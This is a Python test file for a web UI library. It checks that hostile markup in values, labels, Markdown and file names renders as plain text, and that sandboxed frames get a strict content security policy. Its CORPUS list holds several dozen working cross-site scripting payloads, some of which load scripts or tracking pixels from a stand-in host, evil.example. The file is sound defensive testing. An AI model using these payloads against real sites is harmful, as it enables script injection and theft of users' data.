"""Markup in keys, values, labels, Markdown and file names stays text, wherever it stands."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import pytest
from htpy import fragment

from handrail.core.define.result import Attachment, Result
from handrail.core.define.ui_specs import OutputSection
from handrail.core.present.blocks import tool_output_to_blocks
from handrail.doors.web.assets import asset_url
from handrail.doors.web.views.blocks import custom_frame
from handrail.doors.web.views.result import render_result
from handrail.doors.web.views.text import render_markdown
from handrail.doors.web.views.values import render_value

CORPUS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>x</a>",
    "<form action=//evil.example><button>go</button></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style='background:url(//evil.example)'>x</div>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<template><img src=x onerror=alert(1)></template>",
    "<div hx-get=/api hx-trigger=load hx-on:click=alert(1)>x</div>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onfocus='alert(1)' autofocus='",
    "\"><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    "</pre></details></title></textarea><img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %> {% x %}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "\x00<script>alert(1)</script>",
    "\u202e<script>\u2066alert(1)",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](JAVASCRIPT&colon;alert(1))",
    "[click](/approvals/1/approve)",
    "[click](//evil.example)",
    "![pixel](https://evil.example/p.png?who=me)",
    "![pixel](data:image/svg+xml,<svg onload=alert(1)>)",
    "[![p](https://evil.example/p.png)](javascript:alert(1))",
    "<https://evil.example/\" onclick=\"alert(1)>",
    "[x](https://evil.example 'title\" onclick=alert(1)')",
    "[ref]: javascript:alert(1)\n\n[ref]",
    "```html\n<script>alert(1)</script>\n```",
    "```\" onclick=\"alert(1)\nx\n```",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | 2 |",
]  # fmt: skip

ELEMENTS = set(
    "a blockquote br circle code data dd del details div dl dt em figure g h3 h4 h5 h6 hr iframe li line ol "
    "p path polygon polyline pre rect s section span strong summary svg table tbody td text th thead "
    "time title tr ul view-chart".split()
)
ATTRIBUTES = set(
    "aria-hidden aria-label aria-sort class cx cy d data-chart data-script data-view-sort datetime "
    "download fill focusable height href id loading points preserveaspectratio r referrerpolicy rel "
    "role rx sandbox scope src start tabindex target text-anchor title value vector-effect "
    "viewbox width x x1 x2 y y1 y2".split()
)
SORT: tuple[str, dict[str, str | None]] = ("button", {"class": "view-sort", "type": "button"})
"""The only button: it sorts where there are no links, and has nothing on it that a text could set."""


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data!r}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl!r}")


def read(html: str) -> _Elements:
    reader = _Elements()
    reader.feed("".join(html))
    reader.close()
    return reader


def assert_harmless(html: str) -> _Elements:
    """No element, attribute or address but those that the views make themselves."""
    reader = read(html)
    for tag, attrs in reader.found:
        if (tag, attrs) == SORT:
            continue
        assert tag in ELEMENTS, f"<{tag}> in {html!r}"
        assert attrs.keys() <= ATTRIBUTES, f"{attrs} on <{tag}> in {html!r}"
        assert attrs.get("data-script") in (None, asset_url("chart.js"))
        for name in ("href", "src"):
            if (address := attrs.get(name)) is not None:
                assert_harmless_address(tag, address, attrs)
    return reader


def assert_harmless_address(tag: str, address: str, attrs: dict[str, str | None]) -> None:
    if tag == "iframe":
        assert address.startswith("/frame/") and attrs["sandbox"] == ""
    elif not address.startswith(("/result.", "?", "/files/")):
        assert tag == "a" and urlsplit(address).scheme in ("http", "https", "mailto"), address
        assert {"noopener", "nofollow"} <= set((attrs["rel"] or "").split())


def everywhere(text: str) -> str:
    """A result with the text in every place that a tool or a caller fills."""
    rows = [{text: text, "n": 1, "name": text}, {text: [text], "n": -2, "name": text}]
    data: dict[str, Any] = {
        "figures": {text: text, "n": 1},
        "rows": rows,
        "page": text,
        text: {text: [text, {text: {text: {text: {text: {text: text}}}}}]},
    }
    sections = [
        OutputSection("figures", text, "summary", {"unit": text, "figures": [{"key": text, "label": text}]}),
        OutputSection("figures", text, "summary", {"format": "markdown"}),
        OutputSection("rows", text, "table", {"columns": [{"key": text, "unit": text, "format": "link"}]}),
        OutputSection("rows", text, "chart", {"x": "name", "y": [{"key": "n", "label": text, "unit": text}]}),
        OutputSection("rows", text, "chart", {"kind": "line", "x": "name", "y": "n"}),
        OutputSection("rows", text, "ranking", {"label": "name", "value": "n", "note": text}),
        OutputSection("figures", text, "table", {"format": "code"}),
        OutputSection("page", text, "custom"),
        OutputSection("page", text, "summary"),
    ]  # fmt: skip
    axes = OutputSection("axes", text, "radar")
    data["axes"] = {text: 1, text + "2": 2, text + "3": 3}
    result = Result(
        data=data,
        summary=text,
        markdown=text,
        output=text,
        metadata={text: text},
        attachments=(Attachment(text, text, b"x"), Attachment("image/png", text, ref=text)),
    )
    failed = Result.fail(text, code=text, metadata={"fields": {text: text}}, data=text)
    drawn = [
        render_result(
            [*sections, axes],
            result,
            args={text: text},
            id="r",
            downloads="/result",
            frames="/frame",
            query={"q": text},
        ),
        render_result([*sections, axes], result, id="n", frames="/frame"),
        render_result(None, result, id="g", here="", query={"q": text}),
        render_result(None, failed, id="f", files="/files"),
        render_result(None, {"success": True, "data": text, "attachments": [{text: text}]}, id="m"),
        render_value({text: rows}, id="v"),
    ]
    return str(fragment[drawn])


@pytest.mark.req("UI-17")
@pytest.mark.parametrize("text", CORPUS)
def test_hostile_text_stays_text_wherever_it_stands(text: str) -> None:
    assert_harmless(everywhere(text))


@pytest.mark.req("TR-05")
@pytest.mark.parametrize("text", CORPUS)
def test_hostile_markdown_makes_nothing_but_text_and_safe_links(text: str) -> None:
    html = str(fragment[render_markdown(text)])
    assert not {tag for tag, _ in assert_harmless(html).found} & {
        "img",
        "svg",
        "iframe",
        "script",
        "style",
        "button",
    }


@pytest.mark.req("TR-05")
def test_markdown_is_formatted_and_its_links_lead_out_alone() -> None:
    html = str(
        fragment[
            render_markdown(
                "# Hits\n\n**2** of [three](https://a.example/x) or [us](mailto:a@b.example)\n\n|a|\n|-|\n|1|"
            )
        ]
    )
    found = read(html).found
    assert [tag for tag, _ in found][:4] == ["div", "h3", "p", "strong"]
    links = [attrs for tag, attrs in found if tag == "a"]
    assert [link["href"] for link in links] == ["https://a.example/x", "mailto:a@b.example"]
    assert all({"noopener", "nofollow"} <= set(str(link["rel"]).split()) for link in links)
    assert "td" in [tag for tag, _ in found]


@pytest.mark.req("TR-05")
def test_html_in_markdown_is_shown_as_the_text_that_it_is() -> None:
    reader = read(str(fragment[render_markdown("a <b>c</b>\n\n<script>alert(1)</script>")]))
    assert reader.text.split("\n") == ["a <b>c</b>", "<script>alert(1)</script>", ""]


@pytest.mark.req("TR-05")
def test_a_picture_in_markdown_is_a_link_and_is_not_fetched() -> None:
    found = read(str(fragment[render_markdown("![A map](https://a.example/map.png)")])).found
    assert [tag for tag, _ in found] == ["div", "p", "a"]
    assert found[-1][1]["href"] == "https://a.example/map.png"


@pytest.mark.req("UI-12")
@pytest.mark.parametrize("scripts", [False, True])
def test_a_custom_block_is_served_without_an_origin_and_without_the_network(scripts: bool) -> None:
    section = OutputSection("page", "Page", "custom", {"scripts": scripts})
    blocks = tool_output_to_blocks([section], {"page": "<h1>Hi</h1><script>1</script>"})
    frame = custom_frame(blocks, "page")
    assert frame is not None
    policy = [part.strip() for part in frame.headers["Content-Security-Policy"].split(";")]
    assert (
        "default-src 'none'" in policy
        and "frame-ancestors 'self'" in policy
        and "form-action 'none'" in policy
    )
    assert ("sandbox allow-scripts" if scripts else "sandbox") in policy
    assert any(part.startswith("script-src") for part in policy) is scripts
    assert "allow-same-origin" not in frame.headers["Content-Security-Policy"]
    assert frame.headers["X-Content-Type-Options"] == "nosniff"
    assert custom_frame(blocks, "other") is None
